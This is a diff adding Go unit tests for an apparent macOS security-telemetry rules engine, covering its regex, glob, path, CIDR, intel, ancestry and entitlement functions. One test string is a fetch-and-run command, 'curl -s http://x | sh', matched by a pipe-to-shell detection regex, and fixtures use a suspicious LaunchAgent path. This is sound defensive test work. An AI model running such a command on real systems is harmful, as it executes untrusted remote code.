@@ -0,0 +1,278 @@
+package rules
+
+import (
+	"strings"
+	"testing"
+
+	santapb "buf.build/gen/go/northpolesec/protos/protocolbuffers/go/telemetry"
+	"google.golang.org/protobuf/proto"
+)
+
+func TestFunctions(t *testing.T) {
+	engine, err := NewEngine()
+	if err != nil {
+		t.Fatalf("NewEngine() failed: %v", err)
+	}
+	msg := &santapb.SantaMessage{
+		Event: &santapb.SantaMessage_Execution{
+			Execution: &santapb.Execution{
+				Target: &santapb.ProcessInfo{
+					Executable: &santapb.FileInfo{Path: proto.String("/Users/alice/Library/LaunchAgents/com.evil.plist")},
+				},
+			},
+		},
+	}
+
+	tests := []struct {
+		expr string
+		want bool
+	}{
+		{`re_match(event.execution.target.executable.path, "^/Users/[^/]+/Library/")`, true},
+		{`re_match("curl -s http://x | sh", "\\|\\s*(ba|z)?sh\\b")`, true},
+		{`re_match("/bin/ls", "^/usr/")`, false},
+
+		{`glob(event.execution.target.executable.path, "/Users/*/Library/LaunchAgents/*.plist")`, true},
+		{`glob(event.execution.target.executable.path, "/Users/*/*.plist")`, false},
+		{`glob(event.execution.target.executable.path, "/Users/**/*.plist")`, true},
+		{`glob("/Users/alice/x.plist", "/Users/alice/**/x.plist")`, true},
+		{`glob("/tmp/a.sh", "/tmp/?.{sh,py}")`, true},
+		{`glob("/tmp/a.rb", "/tmp/?.{sh,py}")`, false},
+		{`glob("/tmp/b", "/tmp/[!a]")`, true},
+		{`glob("/tmp/a+b", "/tmp/a+b")`, true},
+
+		{`basename(event.execution.target.executable.path) == "com.evil.plist"`, true},
+		{`dirname(event.execution.target.executable.path) == "/Users/alice/Library/LaunchAgents"`, true},
+		{`basename("") == "" && dirname("") == ""`, true},
+
+		{`path_in(event.execution.target.executable.path, ["/Applications", "/Users/alice/Library/"])`, true},
+		{`path_in("/Applications", ["/Applications"])`, true},
+		{`path_in("/ApplicationsEvil/x", ["/Applications"])`, false},
+		{`path_in("/bin/sh", [])`, false},
+
+		{`cidr_contains("10.0.0.0/8", "10.1.2.3")`, true},
+		{`cidr_contains("10.0.0.0/8", "192.168.1.1")`, false},
+		{`cidr_contains("10.0.0.0/8", "::ffff:10.1.2.3")`, true},
+		{`cidr_contains("fd00::/8", "fd12::1")`, true},
+		{`cidr_contains("10.0.0.0/8", "")`, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.expr, func(t *testing.T) {
+			program, err := engine.compileExpression("test", tt.expr)
+			if err != nil {
+				t.Fatalf("Failed to compile: %v", err)
+			}
+			out, _, err := program.Eval(BuildActivation(msg))
+			if err != nil {
+				t.Fatalf("Failed to evaluate: %v", err)
+			}
+			if out.Value() != tt.want {
+				t.Errorf("got %v, want %v", out.Value(), tt.want)
+			}
+		})
+	}
+}
+
+func TestFunctionLiteralArgs(t *testing.T) {
+	engine, err := NewEngine()
+	if err != nil {
+		t.Fatalf("NewEngine() failed: %v", err)
+	}
+	tests := []struct {
+		expr    string
+		wantErr string
+	}{
+		{expr: `re_match(kind, "(")`, wantErr: "re_match"},
+		{expr: `glob(kind, "/tmp/[a")`, wantErr: "unterminated ["},
+		{expr: `glob(kind, "/tmp/{a,b")`, wantErr: "unterminated {"},
+		{expr: `cidr_contains("10.0.0.0/33", machine_id)`, wantErr: "cidr_contains"},
+		{expr: `re_match(kind, machine_id)`},
+	}
+	for _, tt := range tests {
+		_, err := engine.compileExpression("test", tt.expr)
+		if tt.wantErr == "" {
+			if err != nil {
+				t.Errorf("%s: unexpected error: %v", tt.expr, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+			t.Errorf("%s: error = %v, want %q", tt.expr, err, tt.wantErr)
+		}
+	}
+
+	// Dynamic patterns are only checked when evaluated
+	program, err := engine.compileExpression("test", `re_match(kind, machine_id)`)
+	if err != nil {
+		t.Fatalf("Failed to compile: %v", err)
+	}
+	msg := &santapb.SantaMessage{MachineId: proto.String("(")}
+	if _, _, err := program.Eval(BuildActivation(msg)); err == nil || !strings.Contains(err.Error(), "re_match") {
+		t.Errorf("Expected re_match evaluation error, got %v", err)
+	}
+}
+
+// stubIntel lists the indicators intel_match knows
+type stubIntel map[string][]string
+
+func (s stubIntel) Match(value string) []string {
+	return s[value]
+}
+
+func TestIntelMatch(t *testing.T) {
+	engine, err := NewEngine()
+	if err != nil {
+		t.Fatalf("NewEngine() failed: %v", err)
+	}
+	program, err := engine.compileExpression("test", `intel_match(event.execution.target.code_signature.team_id)`)
+	if err != nil {
+		t.Fatalf("Failed to compile: %v", err)
+	}
+	msg := &santapb.SantaMessage{
+		Event: &santapb.SantaMessage_Execution{
+			Execution: &santapb.Execution{
+				Target: &santapb.ProcessInfo{CodeSignature: &santapb.CodeSignature{TeamId: proto.String("EQHXZ8M8AV")}},
+			},
+		},
+	}
+	eval := func() any {
+		t.Helper()
+		out, _, err := program.Eval(BuildActivation(msg))
+		if err != nil {
+			t.Fatalf("Failed to evaluate: %v", err)
+		}
+		return out.Value()
+	}
+
+	// Without intel nothing matches
+	if got := eval(); got != false {
+		t.Errorf("intel_match without intel = %v, want false", got)
+	}
+	engine.SetIntel(stubIntel{"EQHXZ8M8AV": {"partner-feed"}})
+	if got := eval(); got != true {
+		t.Errorf("intel_match = %v, want true", got)
+	}
+	engine.SetIntel(stubIntel{})
+	if got := eval(); got != false {
+		t.Errorf("intel_match for unlisted team = %v, want false", got)
+	}
+}
+
+// stubAncestry gives every event the same ancestors
+type stubAncestry []string
+
+func (s stubAncestry) AncestorPaths(*santapb.SantaMessage) []string {
+	return s
+}
+
+func TestAncestryFunctions(t *testing.T) {
+	engine, err := NewEngine()
+	if err != nil {
+		t.Fatalf("NewEngine() failed: %v", err)
+	}
+	msg := &santapb.SantaMessage{
+		Event: &santapb.SantaMessage_Execution{
+			Execution: &santapb.Execution{
+				Target: &santapb.ProcessInfo{Executable: &santapb.FileInfo{Path: proto.String("/usr/bin/osascript")}},
+			},
+		},
+	}
+	tests := []struct {
+		expr string
+		want bool
+	}{
+		{`parent_path() == "/bin/zsh"`, true},
+		{`ancestor_paths().size() == 2 && ancestor_paths()[1].endsWith("/Terminal")`, true},
+		{`has_ancestor("/System/Applications/Utilities/Terminal.app/**")`, true},
+		{`has_ancestor("/Applications/*.app/**")`, false},
+		{`event.execution.target.executable.path == "/usr/bin/osascript" && !has_ancestor("**/Terminal")`, false},
+	}
+
+	engine.SetAncestry(stubAncestry{"/bin/zsh", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"})
+	for _, tt := range tests {
+		t.Run(tt.expr, func(t *testing.T) {
+			program, err := engine.compileExpression("test", tt.expr)
+			if err != nil {
+				t.Fatalf("Failed to compile: %v", err)
+			}
+			out, _, err := program.Eval(BuildActivation(msg))
+			if err != nil {
+				t.Fatalf("Failed to evaluate: %v", err)
+			}
+			if out.Value() != tt.want {
+				t.Errorf("got %v, want %v", out.Value(), tt.want)
+			}
+		})
+	}
+
+	// Without lineage no event has ancestors
+	engine.SetAncestry(nil)
+	program, err := engine.compileExpression("test", `parent_path() == "" && !has_ancestor("**")`)
+	if err != nil {
+		t.Fatalf("Failed to compile: %v", err)
+	}
+	if out, _, err := program.Eval(BuildActivation(msg)); err != nil || out.Value() != true {
+		t.Errorf("Without lineage got %v, %v; want true", out, err)
+	}
+
+	if _, err := engine.compileExpression("test", `has_ancestor("/tmp/[a")`); err == nil || !strings.Contains(err.Error(), "has_ancestor") {
+		t.Errorf("Expected has_ancestor pattern error, got %v", err)
+	}
+}
+
+func TestEntitlements(t *testing.T) {
+	engine, err := NewEngine()
+	if err != nil {
+		t.Fatalf("NewEngine() failed: %v", err)
+	}
+	entitlement := func(key, value string) *santapb.Entitlement {
+		return &santapb.Entitlement{Key: proto.String(key), Value: proto.String(value)}
+	}
+	msg := &santapb.SantaMessage{
+		Event: &santapb.SantaMessage_Execution{
+			Execution: &santapb.Execution{
+				EntitlementInfo: &santapb.EntitlementInfo{Entitlements: []*santapb.Entitlement{
+					entitlement("com.apple.security.get-task-allow", "true"),
+					entitlement("com.apple.security.cs.disable-library-validation", "false"),
+					entitlement("com.apple.application-identifier", `"ABCDE12345.com.example.app"`),
+				}},
+			},
+		},
+	}
+	tests := []struct {
+		expr string
+		want bool
+	}{
+		{`has_entitlement("com.apple.security.get-task-allow")`, true},
+		{`has_entitlement("com.apple.security.cs.disable-library-validation")`, false},
+		{`has_entitlement("com.apple.private.*")`, false},
+		{`has_entitlement("com.apple.security.*")`, true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.expr, func(t *testing.T) {
+			program, err := engine.compileExpression("test", tt.expr)
+			if err != nil {
+				t.Fatalf("Failed to compile: %v", err)
+			}
+			out, _, err := program.Eval(BuildActivation(msg))
+			if err != nil {
+				t.Fatalf("Failed to evaluate: %v", err)
+			}
+			if out.Value() != tt.want {
+				t.Errorf("got %v, want %v", out.Value(), tt.want)
+			}
+		})
+	}
+
+	rule := &Rule{Entitlements: []string{"com.apple.security.*"}}
+	got := rule.MatchedEntitlements(msg)
+	if len(got) != 2 || got["com.apple.security.get-task-allow"] != "true" {
+		t.Errorf("MatchedEntitlements() = %v", got)
+	}
+	if got := (&Rule{Entitlements: []string{"com.apple.private.*"}}).MatchedEntitlements(msg); got != nil {
+		t.Errorf("Expected no matched entitlements, got %v", got)
+	}
+
+	if _, err := engine.compileExpression("test", `has_entitlement("[a")`); err == nil || !strings.Contains(err.Error(), "has_entitlement") {
+		t.Errorf("Expected has_entitlement pattern error, got %v", err)
+	}
+}